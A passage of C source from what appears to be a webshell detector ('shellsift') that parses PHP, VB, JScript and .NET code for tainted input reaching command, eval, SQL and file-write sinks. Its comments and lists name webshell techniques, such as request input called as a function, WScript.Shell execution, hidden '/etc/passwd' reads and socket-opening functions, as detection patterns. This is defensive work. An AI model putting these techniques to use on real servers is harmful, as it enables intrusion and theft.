  const token *t = &c->st[0];
  if (c->nst <= 2 || !is_op(c, 1, "=") || !memchr(tok_text(c, t), '.', t->len)) return 0;
  const char *last = strrchr(tok_text(c, t), '.') + 1;
  size_t la = 2, lb = c->nst;
  name_def wd;
  const name_def *row = NULL;
  char via[80], display[96];
  if (!wrapper_call(c, last, &la, &lb, &wd, &row, via, sizeof via)) return 0;
  snprintf(display, sizeof display, "%s%s", wd.display, via);
  check_sink(c, &wd, display, t->line, la, lb);
  return 1;
}

/* $obj->method(...) in PHP: a sink on an object (ArrayObject::uasort,
 * SQLite3::createFunction, ReflectionFunction::invoke), named in names.c
 * as "->method". */
static __attribute__((noinline)) void php_method_sink(lang_ctx *c, size_t i, size_t a, size_t b) {
  const token *t = &c->st[i];
  char name[64], display[96];
  if (t->len + 2 >= sizeof name) return;
  /* "->" and the name up to its NUL, copied: this runs for every method
   * call, and snprintf costs ten times the copy */
  size_t n = strlen(tok_text(c, t)); /* <= t->len */
  memcpy(name, "->", 2);
  memcpy(name + 2, tok_text(c, t), n);
  name[n + 2] = '\0';
  size_t obj = i >= 2 && c->st[i - 2].kind == TK_VAR ? i - 2 : SIZE_MAX;
  sym *os = obj != SIZE_MAX ? lang_sym_get(c, tok_text(c, &c->st[obj]), c->st[obj].len, 0) : NULL;
  taint ut;
  if (os && n == 4 && c->syn == SYN_PHP && memcmp(name + 2, "open", 4) == 0 && lang_input_taint(c, NULL, a, b, &ut) &&
      (ut.flags & TA_TMPNAME))
    os->uploaded = 1; /* $zip->open($_FILES['z']['tmp_name']): an archive the client sent (->extractTo below) */
  if (os && os->callable && (tok_is(c, t, TK_IDENT, "invoke") || tok_is(c, t, TK_IDENT, "invokeargs") ||
                             tok_is(c, t, TK_IDENT, "__invoke") || tok_is(c, t, TK_IDENT, "call"))) {
    name_def dd = *os->callable;
    dd.arg = 0;
    snprintf(display, sizeof display, "%s through %.30s->%.20s()", os->callable->display, tok_text(c, &c->st[obj]),
             tok_text(c, t));
    check_sink(c, &dd, display, t->line, a, b);
    return;
  }
  const name_def *d = NULL;
  if (os && os->has_type) { /* $shell = new COM('WScript.Shell'); $shell->exec(...): not PDO's exec() */
    char typed[128];
    snprintf(typed, sizeof typed, "%s.%s", c->persist.buf + os->type_off, tok_text(c, t));
    d = lang_names_lookup(typed, strlen(typed), c->syn);
    if (d && d->kind == N_SINK) note_capability(c, d, t->line, a, b);
  } else if (c->ffi_file && !os && i >= 6 && c->syn == SYN_PHP && is_op(c, i - 2, ")")) {
    d = ffi_chain(c, i);
  }
  if (!d) d = lang_names_lookup(name, strlen(name), c->syn);
  if (!d && c->syn == SYN_PHP && c->sink_wrappers && lang_php_runtime_call(c, i, a, b)) return;
  if (!d || d->kind != N_SINK) return;
  /* a console runs its statement on the connection it holds in a variable ($db->query($q)); an
   * application's model reaches its own through a property ($this->db->query()) */
  taint rt; /* ... unless the request's own text is the statement: $this->db->query($_POST['sql']), a console */
  if (d->id == SK_SQL && (obj == SIZE_MAX || (c->st[obj].len == 5 && memcmp(tok_text(c, &c->st[obj]), "$this", 5) == 0)) &&
      !(c->syn == SYN_PHP && a < b && lang_span_taint(c, a, lang_arg_end(c, a), &rt) && (rt.flags & TA_PURE) &&
        !(rt.flags & (TA_WEAK | TA_CALLED))))
    return;
  snprintf(display, sizeof display, "%s", d->display);
  c->method_obj = obj + 1;
  check_sink(c, d, display, t->line, a, b);
  c->method_obj = 0;
}

/* Does the VB call at st[i] open its statement: at its start, after
 * Then or Else (If x Then o.Run ...), or at the end of a chain that does
 * (CreateObject("WScript.Shell").Run ...)?  Such a call takes its
 * arguments without parentheses, so "(a) & b, 0" is all arguments (but
 * in o.CreateTextFile(p).Write x the parentheses are the call's). */
static int vb_statement_head(const lang_ctx *c, size_t i) {
  while (i > 1 && is_op(c, i - 1, ".") && is_op(c, i - 2, ")")) { /* back over f(...). */
    size_t k = lang_match_open(c, i - 2);
    if (k >= c->nst || k == 0 || c->st[k - 1].kind != TK_IDENT) return 0;
    i = k - 1;
  }
  return i == 0 || tok_is(c, &c->st[i - 1], TK_IDENT, "then") || tok_is(c, &c->st[i - 1], TK_IDENT, "else");
}

/* A PHP token that cannot be a call or name a sink and that find_sinks
 * notes nothing of: a number, an operator other than the "]" of
 * $a['f'](...) (and a function's "^"), a variable or literal not called
 * (but for the 11-byte ones lang_php_account_read looks at).  Most of a
 * statement is such tokens; find_sinks skips them in a tight loop. */
static inline int php_inert(const lang_ctx *c, size_t i) {
  const token *t = &c->st[i];
  switch (t->kind) {
  case TK_OP: {
    char ch = tok_text(c, t)[0];
    return !(t->len == 1 && ((ch == ']' && is_op(c, i + 1, "(")) || (ch == '^' && c->fn)));
  }
  case TK_NUM: case TK_ARR: return 1;
  case TK_VAR: return !is_op(c, i + 1, "(");
  case TK_STR: return t->len != 11 && !is_op(c, i + 1, "(");
  default: return 0;
  }
}

static void find_sinks(lang_ctx *c) {
  for (size_t i = 0; i < c->nst; i++) {
    if (c->syn == SYN_PHP) {
      while (i < c->nst && php_inert(c, i)) i++;
      if (i == c->nst) break;
    }
    token *t = &c->st[i];
    int paren = is_op(c, i + 1, "(");
    size_t a = paren ? i + 2 : i + 1, b = paren ? lang_match_close(c, i + 1) : c->nst;
    if (paren && c->syn == SYN_VB && b + 1 < c->nst && !is_op(c, b + 1, ".") && vb_statement_head(c, i))
      a = i + 1, b = c->nst; /* obj.Run ("cmd" & " /c ") & x, 0: a VB statement call's arguments run to its end */
    taint tt;
    char display[96];
    if (t->kind == TK_BTICK) {
      static const name_def btick = {"`", N_SINK, SK_CMD, SYN_ALL, 0, 0, "the backtick operator"};
      if (c->syn == SYN_PHP) note_capability(c, &btick, t->line, i, i + 1);
      check_sink(c, &btick, btick.display, t->line, i, i + 1);
      continue;
    }
    if (t->kind == TK_OP && c->fn && tok_is(c, t, TK_OP, "^")) c->wrappers[c->fn - 1].xor = 1;
    if (t->kind == TK_STR && c->fn && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT)) lang_note_decoder_literal(c, t);
    if (t->kind == TK_STR && t->len == 11 && c->syn == SYN_PHP) lang_php_account_read(c, i); /* a hidden '/etc/passwd' */
    if (t->kind == TK_IDENT && c->fn && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT)) {
      lang_note_decoder_shape(c, t);
      const name_def *dd = paren && i <= 2 ? lang_names_lookup(tok_text(c, t), t->len, c->syn) : NULL;
      if (dd) lang_note_decoder_return(c, i, dd); /* Function D(s) : D = StrReverse(s) */
    }
    if (c->fn && t->kind == TK_STR && paren && c->syn == SYN_PHP && t->len <= 14) lang_php_note_decoder_token(c, t); /* $o = 'chr'; $o(...) */
    if (t->kind == TK_IDENT && c->syn == SYN_JAVA && is_op(c, i + 1, "(")) lang_note_registration(c, t);
    size_t pa, pb;
    if ((c->syn == SYN_CSHARP || c->syn == SYN_VB) && t->kind == TK_IDENT && lang_ps_expression_arg(c, i, &pa, &pb)) {
      static const name_def iex = {"addcommand", N_SINK, SK_CMD, SYN_NET, 0, 0, "PowerShell Invoke-Expression"};
      check_sink(c, &iex, iex.display, t->line, pa, pb);
      continue;
    }
    if (c->syn == SYN_JSCRIPT && t->kind == TK_IDENT && is_op(c, i + 1, "[") && i + 4 < c->nst &&
        c->st[i + 2].kind == TK_STR && is_op(c, i + 3, "]") && is_op(c, i + 4, "(")) {
      /* this["ev" + "al"](x), Function["constructor"]: a method named by a (folded) string */
      const name_def *m = lang_names_lookup(tok_text(c, &c->st[i + 2]), c->st[i + 2].len, c->syn);
      if (m && m->kind == N_SINK && m->id == SK_CODE) {
        snprintf(display, sizeof display, "%s called by name", m->display);
        check_sink(c, m, display, t->line, i + 5, lang_match_close(c, i + 4));
        continue;
      }
    }
    if (c->syn == SYN_JSCRIPT && !paren && !c->alias_line && tok_is(c, t, TK_IDENT, "eval") &&
        !(i > 0 && (is_op(c, i - 1, ".") || tok_is(c, &c->st[i - 1], TK_IDENT, "function"))))
      c->alias_line = t->line; /* {'E': eval}, return eval: called later under another name */
    if (c->syn == SYN_JSCRIPT && !c->alias_line && !(t->flags & TF_NEW) && !(i > 0 && is_op(c, i - 1, ".")) &&
        ((!paren && tok_is(c, t, TK_IDENT, "function") && i > 0 && /* a value: = Function, [Function], f(Function) */
          (is_op(c, i - 1, "=") || is_op(c, i - 1, ":") || is_op(c, i - 1, ",") || is_op(c, i - 1, "[") ||
           is_op(c, i - 1, "(") || tok_is(c, &c->st[i - 1], TK_IDENT, "return")) &&
          (i + 1 == c->nst || is_op(c, i + 1, ",") || is_op(c, i + 1, ")") || is_op(c, i + 1, "]") ||
           is_op(c, i + 1, "}") || is_op(c, i + 1, ";"))) ||
         (paren && (tok_is(c, t, TK_IDENT, "function.apply") || tok_is(c, t, TK_IDENT, "function.call") ||
                    tok_is(c, t, TK_IDENT, "eval.apply") || tok_is(c, t, TK_IDENT, "eval.call")))))
      c->alias_line = t->line; /* var F = Function; F.apply(null, [code]), Function.call(null, code) */
    if (c->syn == SYN_PHP && paren && (t->kind == TK_VAR || is_op(c, i, "]")) &&
        !(i > 0 && (is_op(c, i - 1, "->") || is_op(c, i - 1, "::") || is_op(c, i - 1, "?->")))) {
      /* $f(...) or $_GET['a'](...): the callee is a variable */
      size_t from = i;
      if (t->kind != TK_VAR) { /* back to the variable indexed */
        int depth = 0;
        for (;; from--) {
          if (is_op(c, from, "]")) depth++;
          else if (is_op(c, from, "[") && --depth == 0) break;
          if (from == 0) break;
        }
        if (from == 0) continue;
        from--;
      }
      if (i > 0 && from > 0 && tok_is(c, &c->st[from - 1], TK_IDENT, "new")) continue; /* new $class(...) */
      c->varcall_seen = 1;
      sym *fs = t->kind == TK_VAR ? lang_sym_get(c, tok_text(c, t), t->len, 0) : NULL;
      if (c->fn && c->syn == SYN_PHP && fs && fs->has_taint && (fs->t.flags & TA_PARAM) && b < c->nst)
        lang_php_note_dispatch(c, from, i + 1, a, b); /* function x($f, $a) { return $f($a); } */
      if (fs && !fs->callable && c->anon_var[0]) lang_php_anon_invoke(c, fs, t); /* $f = new class {...} */
      if (fs && c->cbtail.reading && fs->has_taint && (fs->t.flags & TA_PARAM) && fs->t.param == LANG_PARAM_CLOSURE) {
        /* array_walk($_POST, function ($v, $k) { $k($v); }): the closure calls what it is handed */
        static const name_def named = {"$f()", N_SINK, SK_CODE, SYN_PHP, 0, 0, "a function its parameter names"};
        lang_php_cbtail_sink(c, &named, fs->t.flags);
      }
      if (fs && fs->callable) { /* $f = create_function(...); $f($_POST['x']) */
        snprintf(display, sizeof display, "%s through %.40s", fs->callable->display, tok_text(c, t));
        name_def dd = *fs->callable;
        dd.arg = 0;
        size_t s1, e1;
        unsigned k = fs->cparam ? fs->cparam : 1; /* create_function('$x,$y', 'eval(D($x));'): $x, not all */
        if (fs->cparam && lang_arg_span(c, a, b, 2, &s1, &e1)) dd.arg = (unsigned char)fs->cparam;
        if (fs->ncchain && lang_arg_span(c, a, b, k, &s1, &e1) && e1 == s1 + 1) /* its decoders first */
          decode_through(c, s1, fs->cchain, fs->ncchain);
        check_sink(c, &dd, display, t->line, a, b);
        continue;
      }
      if (lang_input_taint(c, NULL, from, i + 1, &tt) && !(tt.flags & TA_CALLED) && !prefixed_var(c, from, i + 1))
        lang_add_detection(c, "shellsift.lang.callback", "webshell", 85, t->line,
                      "request input %s is called as a function (line %u)", tt.src, t->line);
      else if (c->fnlist_var[0] && t->kind != TK_VAR && lang_php_fnlist_call(c, from, i, t->line)) {
        /* get_defined_functions()'s list indexed by the request: reported */
      }
      else if (fs && fs->built)
        lang_php_built_call(c, i, t->line);
      else if (fs && fs->has_taint && (fs->t.flags & TA_PACKED) && !(fs->t.flags & TA_CALLED))
        /* $f = substr($doc, ...); $f($code): the function's name is cut out of the file's own
         * comment or packed data at run time, so no reader of the source sees what runs */
        lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, t->line,
                           "a function whose name is unpacked at run time from %s is called (line %u)", fs->t.src,
                           t->line);
      else if (!fs && t->kind == TK_VAR && b <= c->nst)
        lang_php_unset_callback(c, i, i + 1, a, b, NULL, t->line);
      continue;
    }
    if (c->syn == SYN_PHP && t->kind == TK_IDENT && paren && i >= 2 &&
        (is_op(c, i - 1, "->") || is_op(c, i - 1, "::") || is_op(c, i - 1, "?->"))) {
      if (c->pass == 1 && !c->in_fn) { /* a method of the file defined later: a second pass reads it as a call */
        unsigned bit = lang_name_bit(tok_text(c, t), t->len);
        lang_bloom_add(c->called_method_bloom, bit);
      }
      lang_php_ext_method(c, i, a, b, t->line);
      php_method_sink(c, i, a, b);
      continue;
    }
    const name_def *d = NULL, *table_d = NULL; /* d may be a local copy; table_d is what it copies */
    name_def wd;
    char via[80];
    via[0] = '\0';
    if (t->kind == TK_STR && paren && c->syn == SYN_PHP && !(t->flags & TF_INTERP) && t->len < 48) {
      /* $f = 'assert'; $f(...) after substitution */
      char name[48];
      for (size_t k = 0; k <= t->len; k++) {
        char ch = tok_text(c, t)[k];
        name[k] = (char)(ch >= 'A' && ch <= 'Z' ? ch + 32 : ch);
      }
      d = lang_names_lookup(name, t->len, c->syn);
      if (d && d->kind == N_SINK && (d->id == SK_CMD || d->id == SK_WRITE)) lang_php_hidden_command(c, d, i, a, b, t->line);
      if (c->pass == 1) lang_php_hidden_call(c, t);
      size_t ps, pe;
      if (maybe_opener(c, i) && fopen_writes(c, i, &ps, &pe)) { /* $o = 'fopen'; $o($_POST['p'], 'w') */
        const name_def *fopen_w = php_opener(c, i);
        note_capability(c, fopen_w, t->line, a, b);
        check_sink(c, fopen_w, fopen_w->display, t->line, a, b);
        continue;
      }
      char var[40];
      lang_quote_source(c, t->src_off, t->src_end, var, sizeof var);
      snprintf(via, sizeof via, " through variable function %s", var);
      if (!d || d->kind != N_SINK) { /* $GLOBALS['x'] = 'my_function'; ... its name is a string */
        if (wrapper_call(c, name, &a, &b, &wd, &table_d, via, sizeof via)) d = &wd;
        else if (!d && c->cap_wrappers) note_capability_call(c, name, t->line, a, b);
      }
    } else if (t->kind == TK_IDENT) {
      const token *p = i > 0 ? &c->st[i - 1] : NULL;
      if (p && (tok_is(c, p, TK_OP, "->") || tok_is(c, p, TK_OP, "::") || tok_is(c, p, TK_IDENT, "function") ||
                tok_is(c, p, TK_IDENT, "sub")))
        continue;
      if (p && paren && c->syn != SYN_PHP && c->syn != SYN_VB && p->kind == TK_IDENT &&
          !(t->flags & TF_NEW) && !is_keyword_before_call(c, p))
        continue; /* a declaration: Type name(...) */
      char name[160];
      if (resolve_call(c, i, name, sizeof name)) d = lang_names_lookup(name, strlen(name), c->syn);
      if (!d) d = lang_names_lookup(tok_text(c, t), t->len, c->syn);
      /* Class.forName of a plain class name is reflection's business (reflect.c), not a sink */
      if (d && (d->flags & NF_BCEL) && !(paren && bcel_name(c, a, b))) d = NULL;
      if (!d && !c->late_types && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT)) {
        /* sh.Run x before the Set sh = CreateObject(...) that a page function holds */
        const char *s = tok_text(c, t), *dot = strrchr(s, '.');
        c->late_types = dot && lang_names_is_object_member(dot + 1, t->len - (size_t)(dot + 1 - s), c->syn);
      }
      if (d && (d->kind == N_BUILDER || d->kind == N_DECODER || (d->kind == N_PURE && (d->flags & NF_BUILDER))) && paren)
        c->builders++;
      /* a user function wrapping a sink: f(x), or in VB a statement call f x (o.Run x) */
      int vb_stmt_call = !paren && c->syn == SYN_VB && i == 0 && c->nst > 1 && !is_op(c, 1, "=");
      if ((!d || d->kind != N_SINK) && (paren || vb_stmt_call)) {
        const char *s = tok_text(c, t);
        const char *last = strrchr(s, '.');
        last = last ? last + 1 : s;
        size_t rn;
        const char *recv;
        char rname[48];
        if (wrapper_call(c, last, &a, &b, &wd, &table_d, via, sizeof via)) d = &wd;
        else if (c->sink_wrappers && c->syn != SYN_PHP && c->syn != SYN_VB && last != s &&
                 (recv = lang_lambda_receiver(s, t->len, &rn)) != NULL && rn < sizeof rname &&
                 (memcpy(rname, recv, rn), rname[rn] = '\0', 1) &&
                 wrapper_call(c, rname, &a, &b, &wd, &table_d, via, sizeof via))
          d = &wd; /* f.apply(x), run.Invoke(x): the lambda kept in f */
      }
      if ((t->flags & TF_NEW) && strstr(tok_text(c, t), "processstartinfo")) c->saw_psi = 1;
      size_t ps, pe;
      if (c->syn == SYN_PHP && maybe_opener(c, i) && fopen_writes(c, i, &ps, &pe)) {
        const name_def *fopen_w = php_opener(c, i);
        note_capability(c, fopen_w, t->line, a, b);
        check_sink(c, fopen_w, fopen_w->display, t->line, a, b);
        continue;
      }
      if (!d && paren && lang_reflect_sink(c, i, &d, &a, &b)) {
        snprintf(via, sizeof via, " through reflection");
        lang_caps_sink(c, d, t->line);
      }
      if (c->syn == SYN_VB && i == 0 && !d && c->sink_wrappers && vb_property_let(c)) continue;
      /* property sinks: psi.FileName = ..., and FileName = ... in an initializer */
      if (is_op(c, i + 1, "=")) {
        /* only a member can be a property sink: shell = ... assigns a variable */
        const name_def *set = d && strchr(d->name, '.') ? d : NULL;
        if (!set && c->saw_psi && (tok_is(c, t, TK_IDENT, "filename") || tok_is(c, t, TK_IDENT, "arguments")))
          set = lang_names_lookup("processstartinfo.arguments", 26, c->syn);
        /* WMI: in = proc.Methods_("Create").InParameters.SpawnInstance_(): in.CommandLine = x, then ExecMethod */
        if (!set && c->saw_wmi_process && t->len > 12 && strcmp(tok_text(c, t) + t->len - 12, ".commandline") == 0)
          set = lang_names_lookup("win32_process.create", 20, c->syn);
        /* Task Scheduler: act = td.Actions.Create(0): act.Path = x, act.Arguments = x, then RegisterTaskDefinition */
        if (!set && c->saw_task_service && ((t->len > 5 && strcmp(tok_text(c, t) + t->len - 5, ".path") == 0) ||
                                            (t->len > 10 && strcmp(tok_text(c, t) + t->len - 10, ".arguments") == 0)))
          set = lang_names_lookup("execaction.path", 15, c->syn);
        if (set && set->kind == N_SINK && set->id == SK_CMD) {
          note_wrapper_sink(c, set);
          size_t s, e;
          lang_arg_span(c, i + 2, c->nst, 1, &s, &e);
          snprintf(display, sizeof display, "%s", set->display);
          check_sink(c, set, display, t->line, s, e);
        }
        continue;
      }
      if (!paren && !(c->syn == SYN_VB || (d && d->id == SK_INCLUDE) || (t->flags & TF_NEW))) continue;
      if (!paren && c->syn == SYN_PHP && !(d && d->id == SK_INCLUDE)) continue;
    }
    if (!d && paren && t->kind == TK_IDENT && c->syn == SYN_PHP && c->built_wrappers) lang_php_built_wrapper_call(c, i, a, b, t->line);
    if (!d && paren && t->kind == TK_IDENT && c->syn == SYN_PHP && c->dispatch_wrappers) lang_php_dispatch_call(c, i, a, b, t->line);
    if (!d && paren && t->kind == TK_IDENT && c->pass == 1) { /* a call of a function that may be defined later */
      unsigned bit = lang_name_bit(tok_text(c, t), t->len);
      lang_bloom_add(c->called_bloom, bit);
      if (!c->in_fn) lang_bloom_add(c->called_top_bloom, bit);
    }
    if (d && c->syn == SYN_PHP && paren && !table_d) note_capability(c, d, t->line, a, b);
    else if (!d && c->cap_wrappers && paren && t->kind == TK_IDENT) note_capability_call(c, tok_text(c, t), t->line, a, b);
    else if (d && paren && d->kind == N_SINK && (c->syn == SYN_JAVA || c->syn == SYN_CSHARP)) note_java_shell_part(c, d, t->line, a, b);
    if (d && d->kind == N_SINK && d->id == SK_CREATE && paren) lang_create_chosen(c, d, t->line, a, b);
    if (!d && paren && (c->err_handler_sink || c->exc_handler_sink || c->autoload_sink) && t->kind == TK_IDENT)
      lang_php_error_trigger(c, i, a, b);
    if (paren && t->kind == TK_IDENT && c->syn == SYN_PHP && ext_call_wanted(c, t, a, b))
      lang_php_ext_call(c, i, a, b, t->line);
    if (!d || d->kind != N_SINK || d->id == SK_CREATE) continue;
    if (tok_is(c, t, TK_IDENT, "function") && !(t->flags & TF_NEW) && is_op(c, b + 1, "{"))
      continue; /* function (x) { ... }: a function expression, not the constructor */
    if (c->syn != SYN_PHP && d->id == SK_WRITE && d->arg == 0) a = i, b = i + 1; /* the path is the object: fi.CreateText() */
    if (c->syn != SYN_PHP) note_wrapper_sink(c, table_d ? table_d : d); /* PHP: parameters that reach it */
    if (b > c->nst) b = c->nst;
    if (b > 0 && b == c->nst && is_op(c, b - 1, "{")) b--;
    const char *shown = d->display;
    if (via[0]) snprintf(display, sizeof display, "%s%s", d->display, via), shown = display;
    check_sink(c, d, shown, t->line, a, b);
  }
}

/* The end of an assignment's value: PHP's `and`, `or` and `xor` bind more
 * loosely than `=` ($a = f() or die()). */
static size_t value_end(const lang_ctx *c, size_t a, size_t b) {
  if (c->syn != SYN_PHP) return b;
  int depth = 0;
  for (size_t i = a; i < b; i++) {
    const token *t = &c->st[i];
    if (tok_opens(c, t)) depth++;
    else if (tok_closes(c, t)) depth--;
    else if (depth == 0 && (tok_is(c, t, TK_IDENT, "and") || tok_is(c, t, TK_IDENT, "or") ||
                            tok_is(c, t, TK_IDENT, "xor")))
      return i;
  }
  return b;
}

/* The constant keys between the target at ti and eq ($a['k'][0] =, $a[] =)
 * joined by \x1f into key; *append for a trailing []. 0 if a key is not
 * constant. */
static int element_key(lang_ctx *c, size_t ti, size_t eq, char *key, size_t keysz, size_t *kn, int *append) {
  *kn = 0;
  *append = 0;
  for (size_t i = ti + 1; i < eq;) {
    const char *close = is_op(c, i, "[") ? "]" : is_op(c, i, "{") ? "}" : NULL;
    if (!close) return 0;
    if (is_op(c, i + 1, close) && i + 2 == eq) {
      *append = 1;
      return 1;
    }
    const token *k = &c->st[i + 1];
    if (!is_op(c, i + 2, close) || (k->kind != TK_STR && k->kind != TK_NUM) || (k->flags & TF_INTERP)) return 0;
    if (*kn + k->len + 1 > keysz) return 0;
    if (*kn) key[(*kn)++] = '\x1f';
    memcpy(key + *kn, tok_text(c, k), k->len);
    *kn += k->len;
    i += 3;
  }
  return 1;
}

void lang_sym_set_array(lang_ctx *c, sym *s, const carr_builder *b) {
  if (b->failed || c->persist.len + b->len > (8u << 20)) {
    s->has_arr = 0;
    return;
  }
  s->arr_off = lang_arena_put(&c->persist, b->buf, b->len);
  s->arr_len = (uint32_t)b->len;
  s->has_arr = 1;
  c->values |= LV_CONST | LV_ARR;
}

/* $a['k'] = 'v', $a[] = 'v', $a[0] = array(...): the constant array grows;
 * any other element assignment makes it unknown. */
static void record_element(lang_ctx *c, sym *s, size_t ti, size_t eq, size_t a, size_t b, int compound) {
  char key[256];
  size_t kn;
  int append;
  const unsigned char *val = NULL;
  size_t vlen = 0;
  int is_arr = 0;
  const unsigned char *old = s->has_arr ? (const unsigned char *)c->persist.buf + s->arr_off : NULL;
  size_t oldlen = s->has_arr ? s->arr_len : 0;
  if (b == a + 1 && c->st[a].kind == TK_STR && !(c->st[a].flags & TF_INTERP))
    val = (const unsigned char *)tok_text(c, &c->st[a]), vlen = c->st[a].len;
  else if (b == a + 1 && lang_php_array_of(c, &c->st[a], &val, &vlen))
    is_arr = 1;
  if (compound || !val || (!s->has_arr && (s->has_const || s->has_taint)) ||
      !element_key(c, ti, eq, key, sizeof key, &kn, &append) || (append && kn)) {
    s->has_arr = 0;
    return;
  }
  carr_builder nb;
  lang_carr_init(&nb);
  if (old) lang_carr_copy(&nb, old, oldlen, NULL, 0, append ? NULL : key, kn);
  if (append) kn = (size_t)snprintf(key, sizeof key, "%lld", nb.next);
  if (is_arr) {
    if (lang_carr_count(val, vlen)) lang_carr_copy(&nb, val, vlen, key, kn, NULL, 0);
    else lang_carr_add(&nb, key, kn, "", 0);
  } else {
    lang_carr_add(&nb, key, kn, (const char *)val, vlen);
  }
  lang_sym_set_array(c, s, &nb);
  lang_carr_free(&nb);
}

/* The value st[a, b) opens a network socket: fsockopen(...), @socket_create(...) */
static int opens_socket(const lang_ctx *c, size_t a, size_t b) {
  static const char *const fns[] = {"fsockopen", "pfsockopen", "socket_create", "socket_accept",
                                    "stream_socket_client", "stream_socket_accept"};
  while (a < b && is_op(c, a, "@")) a++;
  if (a + 1 >= b || c->st[a].kind != TK_IDENT || !is_op(c, a + 1, "(")) return 0;
  for (size_t k = 0; k < sizeof fns / sizeof fns[0]; k++)
    if (tok_is(c, &c->st[a], TK_IDENT, fns[k])) return 1;
  return 0;
}

/* A literal that holds a program: a native executable (1) or a script
 * for another interpreter, its "#!/" as written or in base64 (2).  Looked
 * at as each literal arrives, and again when folding assembled or decoded
 * one ($s = strrev('...') . '...'). */
static void note_carried_program(lang_ctx *c, const char *text, size_t len) {
  if (len >= 1024 && ((text[0] == 0x7f && memcmp(text + 1, "ELF", 3) == 0) || (text[0] == 'M' && text[1] == 'Z')))
    c->pcaps->binary = 1;
  else if (len >= 64 && !c->pcaps->binary && (memcmp(text, "#!/", 3) == 0 || memcmp(text, "IyEv", 4) == 0))
    c->pcaps->binary = 2;
}

static void record_assignment(lang_ctx *c, size_t eq, size_t end) {
  if (eq >= end) return;
  if (c->syn == SYN_PHP && c->pass == 1 && c->session_line && c->session_line < c->statements &&
      tok_is(c, &c->st[0], TK_VAR, "$_SESSION") && is_op(c, eq, "=")) {
    /* $f = $_SESSION['f'] ... later $_SESSION['f'] = $_POST['k']: what one request
     * stores, the next one reads; a second pass reads the session as it is */
    taint st;
    if (lang_input_taint(c, NULL, eq + 1, value_end(c, eq + 1, end), &st)) c->session_late = 1;
  }
  if (c->syn == SYN_PHP && eq == 3 && c->st[0].kind == TK_VAR && is_op(c, 1, "->") && c->st[2].kind == TK_IDENT &&
      is_op(c, eq, "=") && !c->pcaps->prop_line) { /* $o->cmd = $_GET['c']: for a class that runs its properties */
    taint pt;
    if (lang_input_taint(c, NULL, eq + 1, value_end(c, eq + 1, end), &pt)) {
      c->pcaps->prop_line = c->level ? c->outer_line : c->st[0].line;
      snprintf(c->pcaps->prop_src, sizeof c->pcaps->prop_src, "%.47s", pt.src);
    }
  }
  size_t ti;
  const token *tg = assign_target_at(c, eq, &ti);
  if (!tg) return;
  char name[128];
  size_t n = tg->len < sizeof name ? tg->len : sizeof name;
  memcpy(name, tok_text(c, tg), n);
  /* $GLOBALS['x'] = ... is the global $x */
  if (c->syn == SYN_PHP && n == 8 && memcmp(name, "$GLOBALS", 8) == 0 && ti + 3 < eq && is_op(c, ti + 1, "[") &&
      c->st[ti + 2].kind == TK_STR && is_op(c, ti + 3, "]") && c->st[ti + 2].len + 1 < sizeof name) {
    n = c->st[ti + 2].len + 1;
    memcpy(name + 1, tok_text(c, &c->st[ti + 2]), n - 1);
    ti += 3;
  }
  /* $_POST['cmd'] = 'id' (a default when the field is empty): the field stays the request's */
  if (c->syn == SYN_PHP && n >= 5 && name[1] == '_' && lang_names_php_source(name, n)) return;
  int element = c->syn == SYN_PHP && ti + 1 < eq && (is_op(c, ti + 1, "[") || is_op(c, ti + 1, "{"));
  int compound = !is_op(c, eq, "=");
  size_t a = eq + 1, b = end;
  if (b > a && is_op(c, b - 1, "{")) b--;
  b = value_end(c, a, b);
  if (a < b && (is_op(c, a, "&") || is_op(c, a, "@"))) a++; /* $b = &$a, $b = @"$a" */
  taint t;
  int tainted = lang_span_taint(c, a, b, &t); /* a long encoded literal is a packed payload */
  if (tainted && !(t.flags & TA_WEAK) && c->pass == 1 && tg->kind == TK_IDENT && ti > 0 && is_op(c, ti - 1, "->")) {
    unsigned bit = lang_name_bit(tok_text(c, tg), tg->len); /* $this->p = $_POST['p'] */
    if (lang_bloom_has(c->sink_prop_bloom, bit)) c->late_prop = 1;
  }
  char type[96];
  int typed = a < b && (creator_type(c, a, type, sizeof type) || lang_reflect_type(c, a, b, type, sizeof type) ||
                        chain_ends_creating(c, a, b, type, sizeof type) ||
                        (c->syn == SYN_PHP && c->st[a].kind == TK_IDENT && c->st[a].len <= 4 &&
                         lang_php_ffi_type(c, a, b, type, sizeof type)) ||
                        lang_request_alias_type(c, eq, a, b, type, sizeof type));
  char dec[48];
  if (!typed && a < b && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && lang_decoded_value(c, a, b, dec, sizeof dec))
    typed = snprintf(type, sizeof type, "decoded:%s", dec) > 0; /* code = Decode(data): Execute code later */
  else if (!typed && a < b && c->syn == SYN_PHP && lang_php_decoded_code(c, a, b, 0, dec, sizeof dec))
    typed = snprintf(type, sizeof type, "php-decoded:%s", dec) > 0, c->loopdec_seen = 1; /* $code = d('...'); eval($code) */
  else if (!typed && a < b && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && reads_file(c, a, b))
    typed = snprintf(type, sizeof type, "fileread") > 0;
  size_t ps, pe;
  int script = c->syn != SYN_PHP && c->script_open ? 2 : 0, webroot = 0;
  if (c->syn == SYN_PHP && a < b) { /* what a path or a file handle names, or PHP code it holds */
    if (fopen_writes(c, a + (is_op(c, a, "@") ? 1 : 0), &ps, &pe)) script = has_script_ext(c, ps, pe) ? 2 : 0;
    else /* $f = __FILE__ is not a script path to keep: $f . '.lock' is not the script */
      script = encoded_php(c, a, b) ? 3 : !(b == a + 1 && tok_is(c, &c->st[a], TK_IDENT, "__file__")) && has_script_ext(c, a, b);
    webroot = under_web_root(c, a, b);
  } else if (a < b) {
    webroot = under_web_root(c, a, b); /* dir = application.getRealPath("/"), p = Server.MapPath(".") & name */
    if (!script && has_script_ext(c, a, b)) script = 1; /* p = Server.MapPath("x.asp") */
  }
  int is_const = b == a + 1 && ((c->st[a].kind == TK_STR && !(c->st[a].flags & TF_INTERP) && c->st[a].len < 65536) ||
                                 (c->syn == SYN_PHP && c->st[a].kind == TK_NUM));
  const unsigned char *arr = NULL;
  size_t arrlen = 0;
  int is_arr = c->syn == SYN_PHP && b == a + 1 && lang_php_array_of(c, &c->st[a], &arr, &arrlen);
  int fnval = (c->syn == SYN_PHP && b > a + 1 &&
              ((is_op(c, a + 1, "(") &&
